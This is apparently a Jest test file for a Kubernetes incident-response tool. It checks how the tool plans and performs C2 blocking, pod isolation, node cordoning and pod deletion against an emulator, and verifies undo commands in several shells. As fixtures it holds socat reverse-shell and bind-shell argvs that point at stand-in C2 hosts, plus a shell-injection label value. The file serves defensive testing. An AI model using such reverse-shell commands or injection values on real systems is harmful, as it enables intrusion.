/**
 * The responder's Kubernetes actions: planning (pure: each refusal), and
 * execution through the real @kubernetes/client-node against the Kubernetes
 * emulator (what the API server received is what the plan says; re-delivery
 * changes nothing twice; API refusals become records), and the undo commands
 * in every supported shell.
 *
 * Shapes: the pod is a Deployment's pod as the Kubernetes Deployment docs
 * show it (`app=nginx,pod-template-hash=...`, name DEPLOYMENT-HASH-SUFFIX),
 * the node is named as GKE names node-pool VMs
 * (gke-CLUSTER-POOL-HASH-SUFFIX), the C2 endpoints come from real socat argvs
 * through lib/socat.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createKubeApis, EMULATOR_ACCESS_TOKEN, type KubeApis } from '../../lib/clients.js';
import { c2EgressPolicy, QUARANTINE_PREFIX } from '../../lib/report/network-policy.js';
import {
  executeBlockC2,
  executeCordon,
  executeDeletePod,
  executeIsolate,
  PERMISSIONS,
  planBlockC2,
  planCordon,
  planDeletePod,
  planIsolate,
  QUARANTINE_LABEL,
  quarantineValue,
} from '../../lib/respond/kube-actions.js';
import type { PlanContext, ResponsePlan, ResponseRecord, ResponseSubject } from '../../lib/respond/types.js';
import { parseSocatArgs } from '../../lib/socat/args.js';
import { parseNotification } from '../../lib/finding/parse.js';
import { podFromFinding } from '../../lib/gather/pod.js';
import type { ClusterSection } from '../../lib/gather/sections.js';
import { analyzeFinding, OFFLINE } from '../../lib/report/analyze.js';
import { subjectFromReport } from '../../lib/respond/subject.js';
import { parse as parseYaml } from 'yaml';
import { notificationFixture } from '../support/fixtures.js';
import { missingShells, runWithStandIns, SHELLS } from '../support/recording-shell.js';
import { base64Pem, kubeTestCert, startKubeEmulator, type KubeEmulator, type KubeObject } from '../emulators/kube-emulator.js';

const FINDING = 'organizations/123456789012/sources/9876543210/findings/8c6ad2f1e1a94ac1a0c3d4e5f6a7b8c9';
const NS = 'shop';
const POD = 'nginx-deployment-75675f5897-7ci7o';
const NODE = 'gke-prod-1-default-pool-bf8d6e9f-xl4r';
const LABELS = { app: 'nginx', 'pod-template-hash': '75675f5897' };

function c2Of(...argv: string[]) {
  return { ...parseSocatArgs(['socat', ...argv]), scope: null };
}

function subject(over: Partial<ResponseSubject> = {}): ResponseSubject {
  return {
    findingName: FINDING,
    enrichmentFinding: null,
    eventTime: '2026-12-03T09:00:00Z',
    verdict: { level: 'likely_malicious', score: 80 },
    cluster: { project: 'acme-prod', location: 'europe-west1', name: 'prod-1', networkPolicyEnforced: true },
    workload: { namespace: NS, pod: POD, container: 'nginx', node: NODE },
    pod: { source: 'kubernetes', labels: { ...LABELS }, topOwnerKind: 'Deployment' },
    node: { name: NODE, zone: 'europe-west1-b', instanceId: '1234567890123456789' },
    c2: c2Of('TCP:203.0.113.7:4444', 'EXEC:/bin/sh'),
    ...over,
  };
}

function ctx(s: ResponseSubject = subject(), over: Partial<PlanContext> = {}): PlanContext {
  return { subject: s, previous: [], force: false, now: new Date('2026-12-03T10:00:00Z'), ...over };
}

function record(action: ResponseRecord['action'], result: ResponseRecord['result']): ResponseRecord {
  return { action, approver: 'oncall@example.com', at: '2026-12-03T09:30:00.000000000Z', result, detail: '', undo: null };
}

const NOT_ENFORCED = { project: 'acme-prod', location: 'europe-west1', name: 'prod-1', networkPolicyEnforced: false };
const UNKNOWN_ENFORCEMENT = { ...NOT_ENFORCED, networkPolicyEnforced: null };

describe('planning block-c2', () => {
  it('creates the runbook C2-only policy for the pod labels minus per-revision ones; undo deletes it', () => {
    const plan = planBlockC2(ctx());
    const expected = c2EgressPolicy({ namespace: NS, podLabels: { app: 'nginx' }, c2Cidr: '203.0.113.7/32' });
    expect(plan).toMatchObject({ action: 'block-c2', allowed: true, undo: `kubectl delete networkpolicy ${expected.name} --namespace=shop` });
    expect(plan.requests).toEqual([{ api: 'kubernetes', method: 'POST', path: '/apis/networking.k8s.io/v1/namespaces/shop/networkpolicies', body: expected.manifest }]);
    expect(plan.reason).toContain('everything but the C2');
  });

  it('refuses a cluster that does not enforce NetworkPolicy, even with --force', () => {
    for (const force of [false, true]) {
      const plan = planBlockC2(ctx(subject({ cluster: NOT_ENFORCED }), { force }));
      expect(plan).toMatchObject({ allowed: false, requests: [], undo: null });
      expect(plan.reason).toMatch(/does not enforce NetworkPolicy.*Enable enforcement first/);
    }
  });

  it('refuses unknown enforcement unless --force, and says how to check', () => {
    const refused = planBlockC2(ctx(subject({ cluster: UNKNOWN_ENFORCEMENT })));
    expect(refused.allowed).toBe(false);
    expect(refused.reason).toMatch(/Could not tell.*gcloud container clusters describe.*--force/);
    expect(planBlockC2(ctx(subject({ cluster: null })))).toMatchObject({ allowed: false });
    expect(planBlockC2(ctx(subject({ cluster: UNKNOWN_ENFORCEMENT }), { force: true })).allowed).toBe(true);
  });

  it('refuses a C2 that is no IP address the pod sends packets to, with the runbook reasons', () => {
    const cases: [string[], RegExp][] = [
      [['TCP:c2.example.com:4444', 'EXEC:/bin/sh'], /host name, and a NetworkPolicy matches IP addresses only/],
      [['TCP-LISTEN:4444', 'EXEC:/bin/sh'], /bind shell/],
      [['SOCKS4A:127.0.0.1:c2.example.com:443,socksport=9050', 'EXEC:/bin/sh'], /proxy inside the pod/],
      [['UNIX-CONNECT:/tmp/s', 'EXEC:/bin/sh'], /UNIX socket/],
      [['TCP:203.0.113.7:4444'], /socat would refuse/],
    ];
    for (const [argv, reason] of cases) {
      const plan = planBlockC2(ctx(subject({ c2: c2Of(...argv) })));
      expect({ argv, allowed: plan.allowed, requests: plan.requests }).toEqual({ argv, allowed: false, requests: [] });
      expect(plan.reason).toMatch(reason);
    }
  });

  it('refuses when the labels were not read from the cluster, or the namespace is no namespace name', () => {
    expect(planBlockC2(ctx(subject({ pod: { source: 'finding', labels: {}, topOwnerKind: null } }))).reason).toMatch(/not read from the cluster/);
    expect(planBlockC2(ctx(subject({ pod: null }))).allowed).toBe(false);
    for (const namespace of ['a/b', '..', 'Shop', '', null]) {
      expect(planBlockC2(ctx(subject({ workload: { namespace, pod: POD, container: null, node: NODE } }))).allowed).toBe(false);
    }
  });
});

describe('block-c2 and the runbook decide once', () => {
  /** The socat-v2 notification fixture triaged with its pod read from the cluster and an enforcing cluster. */
  function triaged(enforced: boolean | null) {
    const f = parseNotification(notificationFixture('socat-v2'));
    const pod = { ...podFromFinding(f, f.workload.namespace!, f.workload.pod!), source: 'kubernetes' as const, labels: Object.fromEntries(f.podLabels!.map((l) => [l.name, l.value])) };
    const cluster = { networkPolicyEnforced: enforced, labels: {}, ownerLabels: {}, access: null } as unknown as ClusterSection;
    return analyzeFinding(f, { sections: { pod, cluster }, gaps: OFFLINE.gaps.filter((g) => g.section !== 'pod' && g.section !== 'cluster') });
  }

  it('applies exactly the manifest the runbook step prints, for a report as the triage makes it', () => {
    const report = triaged(true);
    const plan = planBlockC2(ctx(subjectFromReport(report, null)));
    const step = report.runbook.steps.find((s) => s.id === 'block_c2_egress')!;
    const yaml = step.command!.slice(step.command!.indexOf('\n') + 1, step.command!.lastIndexOf('\n') + 1);
    expect(plan.allowed).toBe(true);
    expect(plan.requests[0]!.body).toEqual(parseYaml(yaml, { version: '1.1' }));
    expect(plan.requests[0]!.path).toBe('/apis/networking.k8s.io/v1/namespaces/shop/networkpolicies');
    expect(step.note).toContain(plan.undo!.replace(/^kubectl delete networkpolicy (\S+) .*$/, '$1'));
  });

  it('refuses where the runbook warns: enforcement unknown', () => {
    const report = triaged(null);
    expect(report.runbook.steps.find((s) => s.id === 'block_c2_egress')!.warning).toMatch(/could not tell/);
    expect(planBlockC2(ctx(subjectFromReport(report, null))).allowed).toBe(false);
  });
});

describe('planning isolate', () => {
  it('a Deployment pod: quarantine policy first, then read and relabel the pod, dropping pod-template-hash so its ReplicaSet replaces it', () => {
    const plan = planIsolate(ctx());
    const value = quarantineValue(FINDING);
    expect(value).toBe('8c6ad2f1e1a94ac1a0c3d4e5f6a7b8c9');
    expect(plan.allowed).toBe(true);
    expect(plan.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      'POST /apis/networking.k8s.io/v1/namespaces/shop/networkpolicies',
      `GET /api/v1/namespaces/shop/pods/${POD}`,
      `PATCH /api/v1/namespaces/shop/pods/${POD}`,
    ]);
    const policy = plan.requests[0]!.body as { metadata: { name: string }; spec: unknown };
    expect(policy.metadata.name.startsWith(QUARANTINE_PREFIX)).toBe(true);
    expect(policy.spec).toEqual({ podSelector: { matchLabels: { [QUARANTINE_LABEL]: value } }, policyTypes: ['Ingress', 'Egress'] });
    expect(plan.requests[2]).toMatchObject({ body: { metadata: { labels: { [QUARANTINE_LABEL]: value, 'pod-template-hash': null } } }, contentType: 'application/merge-patch+json' });
    expect(plan.reason).toMatch(/ReplicaSet lets the pod go and starts a replacement/);
    expect(plan.undo).toBe(
      `kubectl label pod --namespace=shop ${POD} socat-triage.security/quarantine- pod-template-hash=75675f5897 && kubectl delete networkpolicy ${policy.metadata.name} --namespace=shop`,
    );
  });

  it('a StatefulSet pod keeps its labels but the quarantine one, and the reason says nothing replaces it', () => {
    const plan = planIsolate(ctx(subject({ pod: { source: 'kubernetes', labels: { app: 'db', 'controller-revision-hash': 'db-5d8f' }, topOwnerKind: 'StatefulSet' } })));
    expect(plan.requests[2]!.body).toEqual({ metadata: { labels: { [QUARANTINE_LABEL]: quarantineValue(FINDING) } } });
    expect(plan.reason).toMatch(/no replacement starts/);
  });

  it('a pod-template-hash that is no valid label value is not removed, so it never reaches the undo command', () => {
    const plan = planIsolate(ctx(subject({ pod: { source: 'kubernetes', labels: { app: 'nginx', 'pod-template-hash': "x'; touch /tmp/p #" }, topOwnerKind: 'Deployment' } })));
    expect(plan.requests[2]!.body).toEqual({ metadata: { labels: { [QUARANTINE_LABEL]: quarantineValue(FINDING) } } });
    expect(plan.undo).not.toContain('pod-template-hash');
  });

  it('refuses an unknown pod or labels, a non-enforcing cluster, and names that are not Kubernetes names', () => {
    expect(planIsolate(ctx(subject({ pod: null }))).reason).toMatch(/labels .* are unknown/);
    expect(planIsolate(ctx(subject({ pod: { source: 'finding', labels: {}, topOwnerKind: null } }))).allowed).toBe(false);
    expect(planIsolate(ctx(subject({ cluster: NOT_ENFORCED }), { force: true })).allowed).toBe(false);
    expect(planIsolate(ctx(subject({ workload: { namespace: NS, pod: '../nodes/x', container: null, node: NODE } }))).allowed).toBe(false);
  });

  it('a finding id that is no label value becomes a digest, the same for the same finding', () => {
    const odd = 'organizations/1/sources/2/findings/with-dash_and.dot';
    expect(quarantineValue(odd)).toMatch(/^[0-9a-f]{32}$/);
    expect(quarantineValue(odd)).toBe(quarantineValue(odd));
  });
});

describe('planning cordon and delete-pod', () => {
  it('cordon reads the node, then sends the strategic merge patch kubectl cordon sends', () => {
    const plan = planCordon(ctx());
    expect(plan.requests).toEqual([
      { api: 'kubernetes', method: 'GET', path: `/api/v1/nodes/${NODE}`, body: null },
      { api: 'kubernetes', method: 'PATCH', path: `/api/v1/nodes/${NODE}`, body: { spec: { unschedulable: true } }, contentType: 'application/strategic-merge-patch+json' },
    ]);
    expect(plan.undo).toBe(`kubectl uncordon ${NODE}`);
    expect(planCordon(ctx(subject({ workload: { namespace: NS, pod: POD, container: null, node: null }, node: null }))).reason).toMatch(/node is unknown/);
    expect(planCordon(ctx(subject({ workload: { namespace: NS, pod: POD, container: null, node: '-rf' }, node: null }))).allowed).toBe(false);
    expect(planCordon(ctx(subject({ workload: { namespace: NS, pod: POD, container: null, node: '' } }))).requests[0]!.path).toBe(`/api/v1/nodes/${NODE}`);
  });

  it('delete-pod is refused without a capture done for this detection, and names what to do instead', () => {
    const refused = planDeletePod(ctx());
    expect(refused).toMatchObject({ allowed: false, requests: [] });
    expect(refused.reason).toMatch(/Run capture first.*--force/);
    expect(planDeletePod(ctx(subject(), { previous: [record('capture', 'failed'), record('capture', 'refused')] })).allowed).toBe(false);
    for (const result of ['done', 'already_done'] as const) {
      const plan = planDeletePod(ctx(subject(), { previous: [record('capture', result)] }));
      expect(plan).toMatchObject({ allowed: true, undo: null, requests: [{ api: 'kubernetes', method: 'DELETE', path: `/api/v1/namespaces/shop/pods/${POD}`, body: null }] });
      expect(plan.reason).toMatch(/cannot be undone/);
    }
    expect(planDeletePod(ctx(subject(), { force: true })).allowed).toBe(true);
  });

  it('delete-pod after a recorded delete plans no request: a pod of that name now is a new one', () => {
    const plan = planDeletePod(ctx(subject(), { previous: [record('capture', 'done'), record('delete-pod', 'done')] }));
    expect(plan).toMatchObject({ allowed: true, requests: [] });
    expect(plan.reason).toMatch(/already deleted/);
  });

  it('PERMISSIONS names every write and read the plans make, and no triage permission', () => {
    expect(PERMISSIONS.map((p) => p.permission).sort()).toEqual([
      'container.networkPolicies.create',
      'container.networkPolicies.get',
      'container.networkPolicies.update',
      'container.nodes.get',
      'container.nodes.update',
      'container.pods.delete',
      'container.pods.get',
      'container.pods.update',
    ]);
  });
});

describe('execution through client-node against the Kubernetes emulator', () => {
  let emulator: KubeEmulator;
  let kube: KubeApis;
  const options = { approver: 'oncall@example.com', now: () => new Date('2026-12-03T10:00:00Z') };

  beforeAll(async () => {
    emulator = await startKubeEmulator();
    kube = await createKubeApis(emulator.access, EMULATOR_ACCESS_TOKEN);
  });
  afterAll(async () => {
    await emulator.stop();
  });
  beforeEach(() => {
    emulator.reset();
    emulator.seed({ apiVersion: 'v1', kind: 'Pod', metadata: { name: POD, namespace: NS, labels: { ...LABELS } }, spec: { nodeName: NODE, containers: [{ name: 'nginx', image: 'nginx:1.14.2' }] } });
    emulator.seed({ apiVersion: 'v1', kind: 'Node', metadata: { name: NODE, labels: { 'cloud.google.com/gke-nodepool': 'default-pool' } }, spec: { podCIDR: '10.8.0.0/24' } });
  });

  /** What the emulator received, in the plan's terms. */
  function received(): { method: string; path: string; body: unknown; contentType?: string }[] {
    return emulator.requestLog.map((e) => ({ method: e.method, path: e.path, body: e.method === 'GET' || e.body === undefined ? null : e.body, ...(e.method === 'PATCH' ? { contentType: e.contentType } : {}) }));
  }

  function planned(plan: ResponsePlan) {
    return plan.requests.map(({ method, path, body, contentType }) => ({ method, path, body, ...(contentType ? { contentType } : {}) }));
  }

  /** Requests that changed something: writes the API server accepted. */
  function writes(): string[] {
    return emulator.requestLog.filter((e) => e.method !== 'GET' && e.status !== null && e.status < 300).map((e) => `${e.method} ${e.path}`);
  }

  it('block-c2: done, exactly the planned request; re-delivery is already_done with no second write', async () => {
    const plan = planBlockC2(ctx());
    const first = await executeBlockC2(plan, kube, options);
    expect(first).toMatchObject({ action: 'block-c2', approver: 'oncall@example.com', at: '2026-12-03T10:00:00.000000000Z', result: 'done', undo: plan.undo });
    expect(received()).toEqual(planned(plan));
    const name = (plan.requests[0]!.body as { metadata: { name: string } }).metadata.name;
    expect(emulator.get('NetworkPolicy', name, NS)?.spec).toEqual((plan.requests[0]!.body as KubeObject).spec);

    emulator.clearRequestLog();
    const again = await executeBlockC2(plan, kube, options);
    expect(again.result).toBe('already_done');
    expect(writes()).toEqual([]);
  });

  it('block-c2 for a second C2 of the same pods keeps the first address blocked (PUT with resourceVersion); both re-deliveries are already_done', async () => {
    const one = planBlockC2(ctx());
    const two = planBlockC2(ctx(subject({ c2: c2Of('TCP6:[2001:db8::7]:443', 'EXEC:/bin/bash') })));
    expect((await executeBlockC2(one, kube, options)).result).toBe('done');
    const second = await executeBlockC2(two, kube, options);
    expect(second.result).toBe('done');
    expect(second.detail).toMatch(/now blocks egress to 203\.0\.113\.7\/32 and 2001:db8::7\/128/);
    const name = (one.requests[0]!.body as { metadata: { name: string } }).metadata.name;
    const stored = emulator.get('NetworkPolicy', name, NS)!;
    expect(stored.spec).toEqual(c2EgressPolicy({ namespace: NS, podLabels: { app: 'nginx' }, c2Cidr: '203.0.113.7', extraCidrs: ['2001:db8::7'] }).manifest.spec);
    expect(emulator.requestLog.filter((e) => e.method === 'PUT').map((e) => (e.body as { metadata: { resourceVersion?: string } }).metadata.resourceVersion)).toHaveLength(1);
    emulator.clearRequestLog();
    expect((await executeBlockC2(one, kube, options)).result).toBe('already_done');
    expect((await executeBlockC2(two, kube, options)).result).toBe('already_done');
    expect(writes()).toEqual([]);
  });

  it('block-c2 leaves alone a policy of that name it did not make', async () => {
    const plan = planBlockC2(ctx());
    const name = (plan.requests[0]!.body as { metadata: { name: string } }).metadata.name;
    emulator.seed({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name, namespace: NS }, spec: { podSelector: {}, policyTypes: ['Ingress'] } });
    const r = await executeBlockC2(plan, kube, options);
    expect(r).toMatchObject({ result: 'failed', undo: null });
    expect(r.detail).toMatch(/not one scc-socat-triage made.*left alone/);
    expect(emulator.get('NetworkPolicy', name, NS)?.spec).toEqual({ podSelector: {}, policyTypes: ['Ingress'] });
  });

  it('forbidden: a failed record naming the request and the API reason, never a throw', async () => {
    emulator.deny({ resource: 'networkpolicies', verb: 'create' });
    const r = await executeBlockC2(planBlockC2(ctx()), kube, options);
    expect(r).toMatchObject({ result: 'failed', undo: null });
    expect(r.detail).toMatch(/^POST \/apis\/networking\.k8s\.io\/v1\/namespaces\/shop\/networkpolicies answered 403 Forbidden: .*cannot create resource "networkpolicies"/);
    emulator.deny({ resource: 'nodes', verb: 'patch' });
    const c = await executeCordon(planCordon(ctx()), kube, options);
    expect(c.result).toBe('failed');
    expect(c.detail).toMatch(/^PATCH \/api\/v1\/nodes\/.* answered 403 Forbidden/);
    expect(emulator.get('Node', NODE)?.spec).toEqual({ podCIDR: '10.8.0.0/24' });
  });

  it('isolate: done with the planned requests in order; the pod leaves its ReplicaSet; re-delivery is already_done', async () => {
    const plan = planIsolate(ctx());
    const r = await executeIsolate(plan, kube, options);
    expect(r).toMatchObject({ result: 'done', undo: plan.undo });
    expect(received()).toEqual(planned(plan));
    expect(emulator.get('Pod', POD, NS)?.metadata.labels).toEqual({ app: 'nginx', [QUARANTINE_LABEL]: quarantineValue(FINDING) });
    emulator.clearRequestLog();
    expect((await executeIsolate(plan, kube, options)).result).toBe('already_done');
    expect(writes()).toEqual([]);
  });

  it('isolate after a failed label patch completes on re-delivery without a second policy', async () => {
    const plan = planIsolate(ctx());
    emulator.deny({ resource: 'pods', verb: 'patch' });
    const failed = await executeIsolate(plan, kube, options);
    expect(failed.result).toBe('failed');
    expect(failed.detail).toMatch(/selects no pod until the label is set/);
    expect(failed.undo).toMatch(/^kubectl delete networkpolicy /);
    emulator.reset();
    emulator.seed({ apiVersion: 'v1', kind: 'Pod', metadata: { name: POD, namespace: NS, labels: { ...LABELS } } });
    emulator.seed({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', ...(plan.requests[0]!.body as object) } as KubeObject);
    expect((await executeIsolate(plan, kube, options)).result).toBe('done');
    expect(writes()).toEqual([`PATCH /api/v1/namespaces/shop/pods/${POD}`]);
  });

  it('isolate of a pod that is gone fails and says the policy selects nothing', async () => {
    emulator.remove('Pod', POD, NS);
    const r = await executeIsolate(planIsolate(ctx()), kube, options);
    expect(r.result).toBe('failed');
    expect(r.detail).toMatch(/404 NotFound.*The pod is gone/);
  });

  it('cordon: done with the planned requests; already cordoned is already_done without a patch; a missing node fails', async () => {
    const plan = planCordon(ctx());
    expect((await executeCordon(plan, kube, options)).result).toBe('done');
    expect(received()).toEqual(planned(plan));
    expect(emulator.get('Node', NODE)?.spec).toEqual({ podCIDR: '10.8.0.0/24', unschedulable: true });
    emulator.clearRequestLog();
    expect(await executeCordon(plan, kube, options)).toMatchObject({ result: 'already_done', undo: plan.undo });
    expect(emulator.requestLog.map((e) => e.method)).toEqual(['GET']);
    emulator.remove('Node', NODE);
    const gone = await executeCordon(plan, kube, options);
    expect(gone.result).toBe('failed');
    expect(gone.detail).toMatch(/answered 404 NotFound/);
  });

  it('delete-pod: done with the planned request; re-delivery finds it gone (404) and is already_done', async () => {
    const plan = planDeletePod(ctx(subject(), { previous: [record('capture', 'done')] }));
    expect((await executeDeletePod(plan, kube, options)).result).toBe('done');
    expect(received()).toEqual(planned(plan));
    expect(emulator.get('Pod', POD, NS)).toBeUndefined();
    emulator.clearRequestLog();
    expect((await executeDeletePod(plan, kube, options)).result).toBe('already_done');
    expect(writes()).toEqual([]);
    const after = planDeletePod(ctx(subject(), { previous: [record('capture', 'done'), record('delete-pod', 'done')] }));
    emulator.clearRequestLog();
    expect((await executeDeletePod(after, kube, options)).result).toBe('already_done');
    expect(emulator.requestLog).toEqual([]);
  });

  it('a server error or the deadline becomes a failed record naming the request, never a throw', async () => {
    emulator.injectFault({ status: 503, match: '/networkpolicies' });
    const unavailable = await executeBlockC2(planBlockC2(ctx()), kube, options);
    expect(unavailable.result).toBe('failed');
    expect(unavailable.detail).toMatch(/^POST \/apis\/networking\.k8s\.io\/v1\/namespaces\/shop\/networkpolicies answered 503 ServiceUnavailable/);
    emulator.setLatency(5_000, '/nodes/');
    const late = await executeCordon(planCordon(ctx()), kube, { ...options, signal: AbortSignal.timeout(200) });
    expect(late.result).toBe('failed');
    expect(late.detail).toMatch(/^GET \/api\/v1\/nodes\/\S+ failed: Kubernetes API call cut off at the deadline/);
    emulator.setLatency(0, '/nodes/');
  });

  it('a refused plan is recorded as refused and sends nothing', async () => {
    const plan = planDeletePod(ctx());
    expect(await executeDeletePod(plan, kube, options)).toMatchObject({ result: 'refused', detail: plan.reason, undo: null });
    expect(emulator.requestLog).toEqual([]);
  });
});

describe('undo commands in every shell', () => {
  it('does exactly what it says in bash, zsh, dash and busybox sh', async () => {
    expect(missingShells()).toEqual([]);
    const block = planBlockC2(ctx());
    const isolate = planIsolate(ctx());
    const cordon = planCordon(ctx());
    const blockName = (block.requests[0]!.body as { metadata: { name: string } }).metadata.name;
    const isolateName = (isolate.requests[0]!.body as { metadata: { name: string } }).metadata.name;
    const cases: [string, string[][]][] = [
      [block.undo!, [['delete', 'networkpolicy', blockName, '--namespace=shop']]],
      [
        isolate.undo!,
        [
          ['label', 'pod', '--namespace=shop', POD, `${QUARANTINE_LABEL}-`, 'pod-template-hash=75675f5897'],
          ['delete', 'networkpolicy', isolateName, '--namespace=shop'],
        ],
      ],
      [cordon.undo!, [['uncordon', NODE]]],
    ];
    for (const shell of SHELLS) {
      for (const [command, argvs] of cases) {
        const run = await runWithStandIns(command, { shell });
        expect({ shell: shell.name, command, invoked: run.invocations.map((i) => [i.program, ...i.argv]), exit: run.exitCode, stderr: run.stderr.trim() }).toEqual({
          shell: shell.name,
          command,
          invoked: argvs.map((a) => ['kubectl', ...a]),
          exit: 0,
          stderr: '',
        });
      }
    }
  });
});

/**
 * kubectl is the oracle for what cordon sends and for whether each undo
 * command really restores the cluster: run here against the emulator (its
 * discovery documents let kubectl resolve the resources). Where kubectl is not
 * installed the block shows as skipped, with the reason in its title.
 */
const KUBECTL = '/usr/bin/kubectl';
const HAVE_KUBECTL = existsSync(KUBECTL);
(HAVE_KUBECTL ? describe : describe.skip)(HAVE_KUBECTL ? 'real kubectl against the emulator' : 'real kubectl against the emulator: NOT RUN, kubectl is not installed', () => {
  let emulator: KubeEmulator;
  let kube: KubeApis;
  let dir: string;
  const options = { approver: 'oncall@example.com' };

  beforeAll(async () => {
    emulator = await startKubeEmulator();
    kube = await createKubeApis(emulator.access, EMULATOR_ACCESS_TOKEN);
    dir = await mkdtemp(path.join(tmpdir(), 'kube-actions-kubectl-'));
    const kubeconfig = {
      apiVersion: 'v1',
      kind: 'Config',
      clusters: [{ name: 'emulator', cluster: { server: `https://127.0.0.1:${emulator.port}`, 'certificate-authority-data': base64Pem(kubeTestCert('ca.crt')) } }],
      users: [{ name: 'responder', user: { token: emulator.token } }],
      contexts: [{ name: 'emulator', context: { cluster: 'emulator', user: 'responder' } }],
      'current-context': 'emulator',
    };
    await writeFile(path.join(dir, 'kubeconfig'), JSON.stringify(kubeconfig));
  });
  afterAll(async () => {
    await emulator.stop();
    await rm(dir, { recursive: true, force: true });
  });
  beforeEach(() => {
    emulator.reset();
    emulator.seed({ apiVersion: 'v1', kind: 'Pod', metadata: { name: POD, namespace: NS, labels: { ...LABELS } }, spec: { nodeName: NODE, containers: [{ name: 'nginx', image: 'nginx:1.14.2' }] } });
    emulator.seed({ apiVersion: 'v1', kind: 'Node', metadata: { name: NODE }, spec: { podCIDR: '10.8.0.0/24' } });
  });

  /** The command in bash with the real kubectl on PATH; asynchronous, so the emulator in this process can answer. */
  function bash(command: string): Promise<{ code: number; stdout: string; stderr: string }> {
    return new Promise((resolve) => {
      execFile('bash', ['-c', command], { env: { PATH: '/usr/bin:/bin', HOME: dir, KUBECONFIG: path.join(dir, 'kubeconfig') }, timeout: 30_000 }, (err, stdout, stderr) =>
        resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
      );
    });
  }

  it('kubectl cordon reads the node and sends the strategic merge patch the cordon plan sends', async () => {
    const plan = planCordon(ctx());
    expect(await bash(`kubectl cordon ${NODE}`)).toMatchObject({ code: 0, stdout: `node/${NODE} cordoned\n` });
    const node = emulator.requestLog.filter((e) => e.path === `/api/v1/nodes/${NODE}`);
    expect(node.map((e) => ({ method: e.method, path: e.path, body: e.body ?? null, ...(e.method === 'PATCH' ? { contentType: e.contentType } : {}) }))).toEqual(
      plan.requests.map(({ method, path: p, body, contentType }) => ({ method, path: p, body, ...(contentType ? { contentType } : {}) })),
    );
  });

  it('each undo command restores what its action changed', async () => {
    const node = emulator.get('Node', NODE)!;
    const cordon = planCordon(ctx());
    expect((await executeCordon(cordon, kube, options)).result).toBe('done');
    expect(await bash(cordon.undo!)).toMatchObject({ code: 0 });
    expect(emulator.get('Node', NODE)?.spec).toEqual(node.spec);

    const isolate = planIsolate(ctx());
    const isolateName = (isolate.requests[0]!.body as { metadata: { name: string } }).metadata.name;
    expect((await executeIsolate(isolate, kube, options)).result).toBe('done');
    expect(await bash(isolate.undo!)).toMatchObject({ code: 0 });
    expect(emulator.get('Pod', POD, NS)?.metadata.labels).toEqual(LABELS);
    expect(emulator.get('NetworkPolicy', isolateName, NS)).toBeUndefined();

    const block = planBlockC2(ctx());
    const blockName = (block.requests[0]!.body as { metadata: { name: string } }).metadata.name;
    expect((await executeBlockC2(block, kube, options)).result).toBe('done');
    expect(emulator.get('NetworkPolicy', blockName, NS)).toBeDefined();
    expect(await bash(block.undo!)).toMatchObject({ code: 0 });
    expect(emulator.get('NetworkPolicy', blockName, NS)).toBeUndefined();
  });
});
